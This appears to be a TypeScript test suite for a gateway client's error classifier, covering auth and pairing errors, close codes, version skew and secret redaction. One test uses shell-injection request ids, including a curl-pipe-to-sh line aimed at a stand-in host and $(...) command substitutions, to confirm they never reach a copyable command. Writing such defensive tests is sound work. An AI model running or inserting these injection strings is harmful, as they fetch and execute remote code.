// Each error shape the real gateway (and the socket layer) produces maps to its own readable kind.
// Shapes are copied from what the pinned gateway sent (see shared/gateway-protocol.md).
import { strict as assert } from "node:assert";
import { test } from "node:test";
import { classifyClose, classifyError } from "../../src/gateway/errors";
import { redactor } from "../../src/gateway/redact";

const gwErr = (code: string, message: string, details?: Record<string, unknown>, extra: Record<string, unknown> = {}) => Object.assign(new Error(message), { code, gatewayCode: code, details, ...extra });

test("each error shape gets its own kind and a next step", () => {
  const cases: [unknown, string][] = [
    [gwErr("INVALID_REQUEST", "unauthorized: gateway token mismatch (provide gateway auth token)", { code: "AUTH_TOKEN_MISMATCH", canRetryWithDeviceToken: true }), "token-mismatch"],
    [gwErr("INVALID_REQUEST", "unauthorized: password mismatch", { code: "AUTH_PASSWORD_MISMATCH" }), "password-mismatch"],
    [gwErr("INVALID_REQUEST", "unauthorized", { code: "AUTH_TOKEN_MISSING" }), "auth-required"],
    [gwErr("INVALID_REQUEST", "device token mismatch", { code: "AUTH_DEVICE_TOKEN_MISMATCH" }), "device-token-rejected"],
    [gwErr("INVALID_REQUEST", "rate limited", { code: "AUTH_RATE_LIMITED" }), "rate-limited"],
    [gwErr("FORBIDDEN", "missing scope: operator.write", { code: "MISSING_SCOPE", missingScope: "operator.write" }), "missing-scope"],
    [gwErr("FORBIDDEN", "missing scope: operator.admin"), "missing-scope"],
    [gwErr("NOT_PAIRED", "pairing required", { code: "PAIRING_REQUIRED", requestId: "req-123" }), "pairing-required"],
    [gwErr("INVALID_REQUEST", "protocol mismatch", { expectedProtocol: 5 }), "protocol-mismatch"],
    [gwErr("UNAVAILABLE", "gateway starting; retry shortly", { reason: "startup-sidecars" }, { retryable: true, retryAfterMs: 500 }), "gateway-starting"],
    [Object.assign(new Error("connect ECONNREFUSED 127.0.0.1:1"), { code: "ECONNREFUSED" }), "unreachable"],
    [Object.assign(new Error("getaddrinfo ENOTFOUND nohost"), { code: "ENOTFOUND" }), "unreachable"],
    [Object.assign(new Error("request timed out"), { code: "CLIENT_TIMEOUT", name: "GatewayClientRequestTimeoutError" }), "timeout"],
    [new Error("gateway tls fingerprint mismatch"), "tls-pin-mismatch"],
    [new Error('SECURITY ERROR: Cannot connect to "1.2.3.4" over plaintext ws://. Both credentials …'), "insecure-url"],
    [gwErr("INVALID_REQUEST", "invalid chat.send params: at /message"), "invalid-request"],
    [gwErr("UNAVAILABLE", "something else broke"), "gateway-error"],
  ];
  for (const [err, kind] of cases) {
    const issue = classifyError(err);
    assert.equal(issue.kind, kind, `${(err as Error).message} → ${issue.kind}`);
    assert.ok(issue.message.length > 10, issue.message);
    assert.ok(issue.nextStep.length > 10, issue.nextStep);
  }
});

test("pairing-required names the request id and the approve command; missing-scope names the scope", () => {
  const p = classifyError(gwErr("NOT_PAIRED", "pairing required", { code: "PAIRING_REQUIRED", requestId: "abc-42" }), { cli: "openclaw" });
  assert.equal(p.requestId, "abc-42");
  assert.equal(p.approveCommand, "openclaw devices approve abc-42");
  assert.match(p.nextStep, /openclaw devices approve abc-42/);
  const s = classifyError(gwErr("FORBIDDEN", "missing scope: operator.write", { missingScope: "operator.write" }), { method: "chat.send" });
  assert.equal(s.missingScope, "operator.write");
  assert.match(s.message, /operator\.write.*chat\.send/);
  assert.equal(classifyError(gwErr("UNAVAILABLE", "gateway starting", { reason: "startup-sidecars" })).retrying, true);
});

test("a pairing request id that is not the CLI's id alphabet never reaches the copyable shell command", () => {
  for (const bad of ["x; curl https://evil.example/p | sh", "$(touch /tmp/pwned)", "a`id`", "id with space", "a".repeat(129), ""]) {
    const p = classifyError(gwErr("NOT_PAIRED", "pairing required", { code: "PAIRING_REQUIRED", requestId: bad }), { cli: "openclaw" });
    assert.equal(p.kind, "pairing-required");
    assert.equal(p.requestId, undefined, bad);
    assert.equal(p.approveCommand, "openclaw devices list", bad);
    assert.ok(!p.nextStep.includes(bad) || bad === "", p.nextStep);
  }
  // From the message text: an id followed by shell syntax is not cut down to a "clean" prefix.
  const m = classifyError(gwErr("NOT_PAIRED", "pairing required (requestId: abc$(id))", {}), { cli: "openclaw" });
  assert.equal(m.approveCommand, "openclaw devices list");
  const ok = classifyError(gwErr("NOT_PAIRED", "pairing required (requestId: Req_9-z)", {}), { cli: "openclaw" });
  assert.equal(ok.approveCommand, "openclaw devices approve Req_9-z");
  assert.equal(classifyError(gwErr("NOT_PAIRED", "pairing required", { requestId: "a".repeat(128) }), { cli: "openclaw" }).requestId, "a".repeat(128));
});

test("close codes without an error frame are classified", () => {
  assert.equal(classifyClose(1012, "service restart")?.kind, "gateway-restarting");
  assert.equal(classifyClose(1002, "protocol")?.kind, "protocol-mismatch");
  assert.equal(classifyClose(1008, "pairing required")?.kind, "pairing-required");
  assert.equal(classifyClose(1008, "unauthorized: gateway token mismatch")?.kind, "token-mismatch");
  assert.equal(classifyClose(1008, "bad")?.kind, "closed-by-policy");
  assert.equal(classifyClose(4000, "tick timeout")?.kind, "unreachable");
  assert.equal(classifyClose(1006, ""), null);
});

test("a secret in an error message never reaches the classified message", () => {
  redactor.add("tok-ABCDEFGH-123456");
  const issue = classifyError(gwErr("UNAVAILABLE", "failed with token tok-ABCDEFGH-123456 in url"));
  assert.ok(!issue.message.includes("tok-ABCDEFGH-123456"), issue.message);
});

test("a device token without the scopes asked for (scope upgrade) falls back to the shared credential", () => {
  // As the real gateway words it when a stored device token is presented with more scopes than it carries.
  const err = new Error("unauthorized: device token scope mismatch (re-pair or approve scope upgrade)");
  const withShared = classifyError(err, { hadSharedSecret: true });
  assert.equal(withShared.kind, "device-token-rejected");
  assert.equal(withShared.retrying, true);
  const alone = classifyError(err, { hadSharedSecret: false });
  assert.equal(alone.retrying, false);
  assert.match(alone.nextStep, /scope upgrade|gateway token/);
});

test("version skew says which side is behind and how to update it (shapes from 2026.5.7 and 2026.9.6)", () => {
  // OpenClaw 2026.5.7 (protocol 3): {code:INVALID_REQUEST, message:"protocol mismatch", details:{expectedProtocol:3}}, no detail code.
  const old = classifyError(gwErr("INVALID_REQUEST", "protocol mismatch", { expectedProtocol: 3 }), { cli: "openclaw" });
  assert.equal(old.kind, "protocol-mismatch");
  assert.equal(old.behind, "gateway");
  assert.equal(old.retrying, false);
  assert.equal(old.updateCommand, "openclaw update");
  assert.match(old.message, /protocol 3.*protocol 4.*2026\.5\.12.*gateway is behind/);
  assert.match(old.nextStep, /on the gateway host run `openclaw update`/);
  // A future gateway on protocol 5 (the 2026.9.6 shape, with the detail code): the extension is behind.
  const newer = classifyError(gwErr("INVALID_REQUEST", "protocol mismatch", { code: "PROTOCOL_MISMATCH", clientMinProtocol: 4, clientMaxProtocol: 4, expectedProtocol: 5, minimumProbeProtocol: 3 }));
  assert.equal(newer.behind, "extension");
  assert.match(newer.nextStep, /Update the extension/);
  assert.doesNotMatch(newer.nextStep, /gateway host/);
  // CLIENT_VERSION_MISMATCH (2026.9.6 sends it to a client older than itself).
  const cv = classifyError(gwErr("INVALID_REQUEST", "client version mismatch", { code: "CLIENT_VERSION_MISMATCH", clientVersion: "2026.9.1", gatewayVersion: "2026.9.6" }));
  assert.equal(cv.kind, "version-mismatch");
  assert.equal(cv.behind, "extension");
  assert.equal(cv.retrying, false);
  assert.match(cv.message, /2026\.9\.6.*2026\.9\.1/);
  // startup-sidecars keeps retrying and says what the gateway asked for.
  const st = classifyError(gwErr("UNAVAILABLE", "gateway starting; retry shortly", { reason: "startup-sidecars" }, { retryable: true, retryAfterMs: 500 }));
  assert.equal(st.retrying, true);
  assert.equal(st.retryAfterMs, 500);
  assert.match(st.message, /startup sidecars/);
});

test("the update command names the CLI the local machine has (openclaw vs krabkrab, any platform's spelling)", async () => {
  const { cliNameOf } = await import("../../src/gateway/local-gateway");
  assert.equal(cliNameOf("/usr/local/bin/openclaw"), "openclaw");
  assert.equal(cliNameOf("C:\\Users\\me\\AppData\\Roaming\\npm\\krabkrab.cmd"), "krabkrab");
  assert.equal(cliNameOf("/opt/x/my-wrapper"), undefined);
  assert.equal(classifyError(gwErr("INVALID_REQUEST", "protocol mismatch", { expectedProtocol: 3 }), { cli: cliNameOf("/usr/bin/openclaw") }).updateCommand, "openclaw update");
});
